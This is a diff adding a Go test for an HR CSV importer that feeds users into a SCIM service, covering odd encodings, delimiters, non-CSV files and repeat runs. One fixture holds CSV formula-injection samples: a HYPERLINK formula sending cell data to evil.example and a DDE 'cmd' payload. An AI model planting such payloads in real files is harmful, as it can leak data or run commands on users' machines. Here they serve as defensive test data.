@@ -1,0 +1,121 @@
+package hrimport
+
+import (
+	"strings"
+	"testing"
+	"unicode/utf16"
+
+	"github.com/scimbridge/scimbridge/scim"
+)
+
+// Messy files as HR systems and Excel really save them
+// (testdata/messy/): each imports exactly its good rows with their exact
+// values, reports each bad row with row and column, or, for a file that
+// is no CSV at all, fails with a clear message and writes nothing. A
+// second run of a file writes nothing.
+func TestMessyFiles(t *testing.T) {
+	for _, c := range []struct {
+		file    string
+		fileErr string              // the run fails with this, nothing written
+		lines   []string            // output lines
+		users   map[string][]string // userName -> dotted path=value pairs
+		summary string
+	}{
+		{file: "cp1252-semicolon.csv", summary: "3 rows: 3 created",
+			users: map[string][]string{
+				"zoe@example.com":  {"name.givenName=Zoë", "name.familyName=Müller", "title=Lead – Platform"},
+				"ana@example.com":  {"name.familyName=O’Neil", "title=Head of R&D €"},
+				"jose@example.com": {"name.givenName=José", "name.familyName=García-Pérez"},
+			}},
+		{file: "utf16le-tab.txt", summary: "2 rows: 2 created",
+			users: map[string][]string{
+				"zoe@example.com": {"name.givenName=Zoë", "name.familyName=Müller", "title=Lead, Platform"},
+				"ana@example.com": {"name.familyName=O'Neil", "title=CEO"},
+			}},
+		{file: "utf16be-tab.txt", summary: "1 rows: 1 created",
+			users: map[string][]string{"zoe@example.com": {"name.givenName=Zoë"}}},
+		{file: "tab.tsv", summary: "2 rows: 2 created",
+			users: map[string][]string{
+				"zoe@example.com": {"name.givenName=Zoë", "title=Lead; Platform, Berlin"},
+				"ana@example.com": {"name.givenName=Ana"},
+			}},
+		{file: "mac-cr.csv", summary: "2 rows: 2 created",
+			users: map[string][]string{
+				"zoe@example.com": {"name.givenName=Zoe", "title=Head of\nEngineering"},
+				"ana@example.com": {"name.givenName=Ana", "title=CEO"},
+			}},
+		{file: "formulas.csv", summary: "2 rows: 2 created",
+			users: map[string][]string{
+				"zoe@example.com": {`name.givenName==HYPERLINK("http://evil.example/?x="&A1,"Zoe")`, "name.familyName=+Muller", "title=-2+3"},
+				"ana@example.com": {"name.givenName=@SUM(A1)", "name.familyName==1+2", "title==cmd|' /C calc'!A0"},
+			}},
+		{file: "xlsx.csv", fileErr: "an Excel workbook (.xlsx)"},
+		{file: "xls.csv", fileErr: "an Excel 97-2003 workbook (.xls)"},
+		{file: "binary.csv", fileErr: "not a text file"},
+	} {
+		t.Run(c.file, func(t *testing.T) {
+			b := newTestBridge(t, scim.Options{})
+			data := fixture(t, "messy/"+c.file)
+			sum, out, err := b.run(data, Options{})
+			if c.fileErr != "" {
+				if err == nil || !strings.Contains(err.Error(), c.fileErr) {
+					t.Fatalf("error %v, want %q", err, c.fileErr)
+				}
+				if b.writes.Load() != 0 {
+					t.Errorf("%d writes for a file that is no CSV", b.writes.Load())
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !strings.HasPrefix(sum.String(), c.summary) {
+				t.Errorf("summary %q, want %q...\n%s", sum, c.summary, out)
+			}
+			for _, l := range c.lines {
+				if !strings.Contains(out, l) {
+					t.Errorf("output lacks %q:\n%s", l, out)
+				}
+			}
+			for name, wants := range c.users {
+				u := b.user(name)
+				if u == nil {
+					t.Errorf("user %s missing", name)
+					continue
+				}
+				for _, w := range wants {
+					path, want, _ := strings.Cut(w, "=")
+					if got := str(u, strings.Split(path, ".")...); got != want {
+						t.Errorf("%s %s = %#v, want %q", name, path, got, want)
+					}
+				}
+			}
+			// The phone number of formulas.csv keeps its +.
+			if c.file == "formulas.csv" {
+				if got := str(asList(b.user("zoe@example.com")["phoneNumbers"])[0], "value"); got != "+49 (30) 1234-567" {
+					t.Errorf("phone = %#v", got)
+				}
+			}
+			before := b.writes.Load()
+			if sum, out, err := b.run(data, Options{}); err != nil || b.writes.Load() != before {
+				t.Errorf("second run wrote %d: %v %s\n%s", b.writes.Load()-before, err, sum, out)
+			}
+		})
+	}
+}
+
+func utf16le(s string) []byte {
+	out := []byte{0xFF, 0xFE}
+	for _, u := range utf16.Encode([]rune(s)) {
+		out = append(out, byte(u), byte(u>>8))
+	}
+	return out
+}
+
+func utf16be(s string) []byte {
+	out := []byte{0xFE, 0xFF}
+	for _, u := range utf16.Encode([]rune(s)) {
+		out = append(out, byte(u>>8), byte(u))
+	}
+	return out
+}
